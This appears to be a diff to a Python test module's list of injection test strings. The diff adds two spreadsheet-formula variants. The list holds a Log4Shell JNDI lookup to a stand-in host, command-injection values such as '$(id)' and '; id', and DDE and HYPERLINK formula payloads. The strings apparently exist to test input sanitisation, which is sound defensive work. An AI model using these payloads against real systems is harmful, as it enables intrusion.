@@ -55,7 +55,7 @@ _TEMPLATES = [
     "}", "{{",
     "}}", "{%", "{# x", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "; id", "| id", "&& id",
     "\n id\n", "$IFS",
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "x;=1+1;", "＝1+1",
     "=HYPERLINK(\"http://evil.example\")",
 ]  # fmt: skip
 _PATHS = [
